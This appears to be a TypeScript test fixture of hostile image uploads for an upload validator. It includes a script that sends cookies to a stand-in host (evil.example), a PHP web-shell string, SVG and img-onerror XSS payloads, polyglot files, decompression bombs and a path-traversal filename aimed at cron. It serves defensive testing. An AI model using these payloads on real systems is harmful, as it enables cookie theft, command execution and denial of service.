import { deflateSync } from "node:zlib";
import sharp from "sharp";
import { declaredPng, jpeg, movingGif, picture, pngWith } from "./pictures.ts";

/** An upload that means no good, and what becomes of it: its sentence, or "taken" where it is a real picture. */
export type HostileUpload = {
  what: string;
  name: string;
  bytes: () => Buffer | Promise<Buffer>;
  becomes: RegExp | "taken";
};

const script = "<script>fetch('https://evil.example/'+document.cookie)</script>";
const php = "<?php system($_GET['c']); ?>";
const text = (words: string) => Buffer.from(words);
const noPicture = /^This file is not a picture that can be read here; /;
const damaged = /^The picture is damaged or incomplete/;
const moves = /^This picture moves; /;
const pixels = /^The picture has [\d,]+ million pixels \([\d,]+ × [\d,]+\); at most 50 million are taken/;

/** Sixteen-bit numbers in a GIF are little-endian, in a JPEG big-endian. */
const gifHeader = (width: number, height: number) =>
  Buffer.from([
    ...text("GIF89a"),
    width & 255,
    width >> 8,
    height & 255,
    height >> 8,
    0x80,
    0,
    0,
    0,
    0,
    0,
    255,
    255,
    255,
  ]);

async function jpegDeclaring(width: number, height: number): Promise<Buffer> {
  const bytes = await jpeg(64, 64);
  const frame = bytes.findIndex(
    (byte, at) => byte === 0xff && [0xc0, 0xc2].includes(bytes[at + 1] as number),
  );
  bytes.writeUInt16BE(height, frame + 5);
  bytes.writeUInt16BE(width, frame + 7);
  return bytes;
}

/** A JPEG whose colour profile comes in so many pieces of 64 KB. */
async function jpegWithProfile(pieces: number): Promise<Buffer> {
  const bytes = await jpeg(64, 64);
  const segments = Array.from({ length: pieces }, (_, index) => {
    const data = Buffer.alloc(65_533 - 16, 65);
    const head = Buffer.concat([
      Buffer.from([0xff, 0xe2, 0xff, 0xfd]),
      text("ICC_PROFILE\0"),
      Buffer.from([index + 1, pieces]),
    ]);
    return Buffer.concat([head, data]);
  });
  return Buffer.concat([bytes.subarray(0, 2), ...segments, bytes.subarray(2)]);
}

export const hostileUploads: HostileUpload[] = [
  {
    what: "an SVG with a script",
    name: "logo.svg",
    bytes: () => text(`<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`),
    becomes: /^SVG drawings can hold scripts/,
  },
  {
    what: "an SVG behind an XML declaration and much white space, named PNG",
    name: "logo.png",
    bytes: () => text(`\uFEFF<?xml version="1.0"?>${" ".repeat(500)}<svg onload="alert(1)"/>`),
    becomes: /^SVG drawings can hold scripts/,
  },
  {
    what: "a web page named JPEG",
    name: "photo.jpg",
    bytes: () => text(`\n<!doctype html><title>x</title>${script}`),
    becomes: /^This is a web page/,
  },
  { what: "a PHP script named JPEG", name: "photo.php.jpg", bytes: () => text(php), becomes: noPicture },
  {
    what: "a GIF that is a JavaScript program",
    name: "pixel.gif",
    bytes: () => text("GIF89a/*\u0001\u0001*/=1;alert(document.cookie)//"),
    becomes: /^The picture is damaged|million pixels/,
  },
  {
    what: "a real GIF with a script behind it",
    name: "pixel.gif",
    bytes: async () => Buffer.concat([await picture(40, 30, 11).gif().toBuffer(), text(script)]),
    becomes: "taken",
  },
  {
    what: "a JPEG with a ZIP archive and PHP behind it",
    name: "photo.jpg",
    bytes: async () => Buffer.concat([await jpeg(200, 150, 12), text(`PK\u0003\u0004${php}`)]),
    becomes: "taken",
  },
  {
    what: "a JPEG with a script and PHP in its EXIF data",
    name: "photo.jpg",
    bytes: () =>
      picture(200, 150, 13)
        .jpeg()
        .withExif({ IFD0: { Copyright: script, ImageDescription: php } })
        .toBuffer(),
    becomes: "taken",
  },
  {
    what: "a PNG that would be 2.5 thousand million pixels",
    name: "bomb.png",
    bytes: () => declaredPng(50_000, 50_000, Buffer.alloc(1_000_000)),
    becomes: pixels,
  },
  {
    what: "a PNG that declares more than any picture has",
    name: "bomb.png",
    bytes: () => declaredPng(2_147_483_647, 2_147_483_647),
    becomes: /million pixels|damaged/,
  },
  {
    what: "a PNG of 48 million pixels in 60 KB",
    name: "white.png",
    bytes: () => declaredPng(6000, 8000, Buffer.alloc(6001 * 8000)),
    becomes: "taken",
  },
  {
    what: "a PNG whose colour profile would be 200 MB",
    name: "profile.png",
    bytes: async () =>
      pngWith(
        await picture(60, 40, 14).png().toBuffer(),
        "iCCP",
        Buffer.concat([text("profile\0\0"), deflateSync(Buffer.alloc(200_000_000))]),
      ),
    becomes: "taken",
  },
  {
    what: "a PNG whose comment would be 200 MB",
    name: "comment.png",
    bytes: async () =>
      pngWith(
        await picture(60, 40, 15).png().toBuffer(),
        "zTXt",
        Buffer.concat([text("Comment\0\0"), deflateSync(Buffer.alloc(200_000_000))]),
      ),
    becomes: "taken",
  },
  {
    what: "a JPEG with 16 MB of a colour profile that is none",
    name: "profile.jpg",
    bytes: () => jpegWithProfile(250),
    becomes: "taken",
  },
  {
    what: "a JPEG that declares 65,500 × 65,500 pixels",
    name: "huge.jpg",
    bytes: () => jpegDeclaring(65_500, 65_500),
    becomes: pixels,
  },
  {
    what: "a GIF that declares 65,535 × 65,535 pixels",
    name: "huge.gif",
    bytes: () => gifHeader(65_535, 65_535),
    becomes: /million pixels|damaged/,
  },
  { what: "a GIF of 200 frames", name: "film.gif", bytes: () => movingGif(300, 200, 200), becomes: moves },
  {
    what: "a WebP that moves",
    name: "film.webp",
    bytes: async () =>
      sharp(await movingGif(60, 40, 4), { animated: true })
        .webp()
        .toBuffer(),
    becomes: moves,
  },
  {
    what: "a JPEG that stops in the middle",
    name: "half.jpg",
    bytes: async () => (await jpeg(900, 600)).subarray(0, 4000),
    becomes: damaged,
  },
  {
    what: "a PNG that stops in the middle",
    name: "half.png",
    bytes: async () => {
      const whole = await picture(900, 600).png().toBuffer();
      return whole.subarray(0, whole.length / 2);
    },
    becomes: damaged,
  },
  {
    what: "a WebP of noise",
    name: "noise.webp",
    bytes: () => Buffer.concat([text("RIFF\u0010\u0000\u0000\u0000WEBPVP8 "), Buffer.alloc(64, 0x5a)]),
    becomes: damaged,
  },
  {
    what: "an AVIF of noise",
    name: "noise.avif",
    bytes: () => Buffer.concat([text("\0\0\0\u0018ftypavif\0\0\0\0avifmif1"), Buffer.alloc(200, 0x5a)]),
    becomes: damaged,
  },
  { what: "nothing at all", name: "empty.jpg", bytes: () => Buffer.alloc(0), becomes: /^The file is empty/ },
  {
    what: "only the first bytes of a JPEG",
    name: "a.jpg",
    bytes: () => Buffer.from([0xff, 0xd8, 0xff]),
    becomes: damaged,
  },
  {
    what: "a PDF named PNG",
    name: "page.png",
    bytes: () => text("%PDF-1.7\n%âãÏÓ\n"),
    becomes: /^This is a PDF/,
  },
  {
    what: "a TIFF",
    name: "scan.tif",
    bytes: () => picture(60, 40).tiff().toBuffer(),
    becomes: /^TIFF pictures/,
  },
  {
    what: "a BMP",
    name: "old.bmp",
    bytes: () => Buffer.concat([text("BM"), Buffer.alloc(60)]),
    becomes: /^BMP pictures/,
  },
  {
    what: "an icon",
    name: "favicon.ico",
    bytes: () => Buffer.from([0, 0, 1, 0, 1, 0, 16, 16]),
    becomes: /^ICO pictures/,
  },
  {
    what: "a HEIC photograph",
    name: "IMG_0001.HEIC",
    bytes: () => text("\0\0\0\u0018ftypheic\0\0\0\0mif1heic"),
    becomes: /^HEIC pictures are not taken; save it as JPEG/,
  },
  {
    what: "a film",
    name: "film.mp4",
    bytes: () => text("\0\0\0\u0018ftypisom\0\0\u0002\0isomiso2"),
    becomes: noPicture,
  },
  {
    what: "a program",
    name: "photo.jpg.exe",
    bytes: () => Buffer.concat([text("MZ"), Buffer.alloc(500)]),
    becomes: noPicture,
  },
  {
    what: "a PNG that calls itself a text",
    name: "notes.txt",
    bytes: () => picture(80, 60, 16).png().toBuffer(),
    becomes: "taken",
  },
  {
    what: "a picture whose name leads out of the folder",
    name: "../../../../etc/cron.d/evil.png",
    bytes: () => picture(80, 60, 17).png().toBuffer(),
    becomes: "taken",
  },
  {
    what: "a picture whose name holds NUL, a direction mark and markup",
    name: `a\0b\u202Egpj.<img src=x onerror=alert(1)>.png`,
    bytes: () => picture(80, 60, 18).png().toBuffer(),
    becomes: "taken",
  },
  {
    what: "a picture whose name is 5,000 characters long",
    name: `${"x".repeat(5000)}.png`,
    bytes: () => picture(80, 60, 19).png().toBuffer(),
    becomes: "taken",
  },
];
